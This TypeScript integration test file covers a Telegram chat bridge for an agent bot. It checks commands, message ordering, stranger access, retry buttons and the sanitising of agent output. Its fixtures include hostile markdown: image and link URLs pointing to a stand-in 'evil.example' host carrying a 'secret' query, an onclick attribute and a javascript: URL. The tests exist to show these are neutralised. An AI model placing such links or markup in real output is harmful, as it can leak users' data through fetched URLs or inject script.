/** A private chat with the bot: what people see, over the fake Bot API, a real Redis and real turns. */
import assert from "node:assert/strict";
import { after, before, describe, it } from "node:test";
import { setTimeout as sleep } from "node:timers/promises";
import { COMMAND_TABLE } from "../../../src/bridges/core/index.ts";
import { principalOf } from "../../../src/lib/ids.ts";
import { until } from "../tiny-worker.ts";
import { ANN, BOB, EVE, type Setup, setUp } from "./setup.ts";

describe("telegram chat", () => {
  let s: Setup;
  before(async () => {
    s = await setUp(async (turn, show) => {
      show("working");
      if (turn.text.startsWith("long")) {
        return {
          kind: "final",
          markdown: Array.from({ length: 300 }, (_, i) => `Line **${i}** of a long answer.`).join("\n\n"),
        };
      }
      if (turn.text.startsWith("hang")) await sleep(1_500);
      if (turn.text === "break") return { kind: "failure", code: "interrupted", reference: "r_1" };
      if (turn.text === "nothing") return { kind: "final", markdown: "" };
      if (turn.text.startsWith("links"))
        return {
          kind: "final",
          markdown: "[the docs](https://docs.example.org/x) and [click](https://evil.example/?q=secret)",
        };
      if (turn.text === "evil") {
        return {
          kind: "final",
          markdown: "![x](https://evil.example/?q=secret) <b onclick=x>hi</b> [a](javascript:1) & ok",
        };
      }
      return { kind: "final", markdown: `echo: ${turn.text}` };
    });
  });
  after(() => s.close());

  it("is ready with its lease held, and registers its menu", async () => {
    assert.equal(s.bridge.status().state, "polling");
    assert.equal(s.bridge.status().bot, "fake_claw_bot");
    const menu = await until(
      () => s.fake.bot.commandsOf("all_private_chats") as { command: string }[] | undefined,
    );
    assert.deepEqual(
      menu.map((entry) => entry.command),
      COMMAND_TABLE.map(({ name }) => name),
    );
  });

  it("answers a text by editing an anchor, as the sender's principal", async () => {
    await s.ask(ANN, "hello", /^echo: hello$/);
    const turn = s.worker.turns.at(-1)!;
    assert.equal(turn.principal, principalOf("telegram", String(ANN)));
    assert.equal(turn.conversation, `telegram.7000000001.${ANN}`);
    assert.deepEqual(s.fake.bot.fromBot(ANN).at(-1)?.history, ["…", "echo: hello"]);
    assert.ok(s.fake.bot.typingCount(ANN) >= 1);
    await until(() => s.fake.bot.unconfirmed() === 0, 2_000, "update confirmed");
  });

  it("splits a long answer without losing a line", async () => {
    await s.ask(ANN, "long please", /Line 299 of/);
    const lines = s.fake.bot.fromBot(ANN).flatMap((m) => m.text.match(/Line \d+ of a long answer\./g) ?? []);
    assert.deepEqual(
      lines,
      Array.from({ length: 300 }, (_, i) => `Line ${i} of a long answer.`),
    );
  });

  it("handles commands itself, also in the form /cmd@bot", async () => {
    await s.ask(ANN, "/start", /pass your messages/);
    await s.ask(ANN, "/help@Fake_Claw_Bot", /\/stop/);
    await s.ask(ANN, "/new", /fresh conversation/);
    await s.ask(ANN, "/stop", /Nothing is running/);
    await s.ask(ANN, "/what_is_this", /don't know the command \/what_is_this/);
    assert.ok(!s.worker.texts.some((text) => text.startsWith("/")));
    await s.ask(ANN, "/etc/hosts is what?", /echo: \/etc\/hosts is what\?/);
  });

  it("takes the text after /new as the first message of the new session", async () => {
    const before = s.worker.turns.at(-1)!.session;
    await s.ask(ANN, "/new what now", /echo: what now/);
    assert.equal(s.worker.turns.at(-1)!.session, before + 1);
  });

  it("answers /stop at once while a turn runs, and drops what waits", async () => {
    s.fake.bot.say(ANN, "hang on");
    await sleep(300);
    s.fake.bot.say(ANN, "waiting message");
    await sleep(200);
    const asked = Date.now();
    await s.ask(ANN, "/stop", /Stopped\. One waiting message was dropped/, 1_000);
    assert.ok(Date.now() - asked < 1_000);
    await until(() => s.worker.texts.includes("hang on"));
    await sleep(300);
    assert.ok(!s.worker.texts.includes("waiting message"));
  });

  it("keeps the order of a conversation's answers and doesn't mix two people", async () => {
    for (let i = 0; i < 5; i++) {
      s.fake.bot.say(ANN, `a${i}`);
      s.fake.bot.say(BOB, `b${i}`);
    }
    const seen = (user: number, letter: string) =>
      s.fake.bot
        .fromBot(user)
        .map((m) => m.text)
        .join("\n")
        .match(new RegExp(`${letter}\\d`, "g")) ?? [];
    await until(() => seen(ANN, "a").length === 5 && seen(BOB, "b").length === 5);
    assert.deepEqual(seen(ANN, "a"), ["a0", "a1", "a2", "a3", "a4"]);
    assert.deepEqual(seen(BOB, "b"), ["b0", "b1", "b2", "b3", "b4"]);
  });

  it("says what to do about things that are no text", async () => {
    s.fake.bot.sayFile(ANN, { name: "x.png", base64: "eA==", kind: "photo" });
    await until(() => s.fake.bot.fromBot(ANN).at(-1)?.text.includes("not this"));
  });

  it("never sends an empty final", async () => {
    await s.ask(ANN, "nothing", /finished without a text/);
  });

  it("shows what an agent writes without letting Telegram fetch anything", async () => {
    await s.ask(
      ANN,
      "evil",
      /\[image: x\] https:\/\/evil\.example\/\?q=secret <b onclick=x>hi<\/b> a javascript:1 & ok/,
    );
    assert.ok(
      !s.fake.bot
        .fromBot(ANN)
        .at(-1)
        ?.entities.some((entity) => entity.type === "text_link"),
    );
    for (const { method, params } of s.fake.bot.callsOf()) {
      if (method !== "sendMessage" && method !== "editMessageText") continue;
      assert.deepEqual(params["link_preview_options"], { is_disabled: true }, method);
    }
  });

  it("links only to hosts that the sandbox's policy allows; others are code with the host that they name", async () => {
    const gateway = s.redis.store("gateway");
    await gateway.ready();
    await gateway.policies.showHosts(principalOf("telegram", String(ANN)), ["docs.example.org"]);
    await s.ask(
      ANN,
      "links",
      /the docs \(docs\.example\.org\) and click https:\/\/evil\.example\/\?q=secret/,
    );
    const { entities, source } = s.fake.bot.fromBot(ANN).at(-1)!;
    assert.deepEqual(
      entities.map(({ type }) => type),
      ["text_link", "code", "code"],
    );
    assert.match(source, /<a href="https:\/\/docs\.example\.org\/x">the docs<\/a>/);
    await gateway.policies.showHosts(principalOf("telegram", String(ANN)), []);
    await s.ask(ANN, "links again", /the docs https:\/\/docs\.example\.org\/x and click/);
  });

  it("tells a stranger how to be let in, once, and nothing else", async () => {
    await s.ask(EVE, "let me in", /tell the person who runs it this code[\s\S]*id here is 6666/);
    s.fake.bot.say(EVE, "/start");
    s.fake.bot.say(EVE, "again");
    await until(() => s.fake.bot.unconfirmed() === 0, 2_000, "updates confirmed");
    await sleep(200);
    assert.equal(s.fake.bot.fromBot(EVE).length, 1);
    assert.equal(s.fake.bot.typingCount(EVE), 0);
    assert.ok(!s.worker.turns.some((turn) => turn.conversation.endsWith(`.${EVE}`)));
  });

  it("stays silent in groups", async () => {
    s.fake.bot.addGroup({ id: -500 });
    s.fake.bot.say(ANN, "hello group", { chat: -500 });
    s.fake.bot.say(ANN, "/help", { chat: -500 });
    await until(() => s.fake.bot.unconfirmed() === 0, 2_000, "updates confirmed");
    await sleep(200);
    assert.equal(s.fake.bot.fromBot(-500).length, 0);
  });

  it("repeats an interrupted turn only on its person's tap, once", async () => {
    await s.ask(ANN, "break", /did not repeat it/);
    const message = s.fake.bot.fromBot(ANN).at(-1)!;
    assert.deepEqual(
      message.buttons.map((button) => button.text),
      ["Try again"],
    );
    s.fake.bot.addUser({ id: EVE });
    const forged = s.fake.bot.press(EVE, ANN, message.id, { label: "Try again" });
    const strange = s.fake.bot.press(ANN, ANN, message.id, { data: "retry:t_00000000000000000000" });
    const mine = s.fake.bot.press(ANN, ANN, message.id, { label: "Try again" });
    const twice = s.fake.bot.press(ANN, ANN, message.id, { label: "Try again" });
    const said = (id: string) => until(() => s.fake.bot.callbackAnswer(id), 2_000, `answer to ${id}`);
    assert.match(await said(forged.callbackId), /Only the person who asked/);
    assert.match(await said(strange.callbackId), /too old/);
    assert.equal(await said(mine.callbackId), "Trying again");
    assert.equal(await said(twice.callbackId), "Trying again");
    await until(() => s.worker.texts.filter((text) => text === "break").length === 2);
    await sleep(300);
    assert.equal(s.worker.texts.filter((text) => text === "break").length, 2);
  });
});
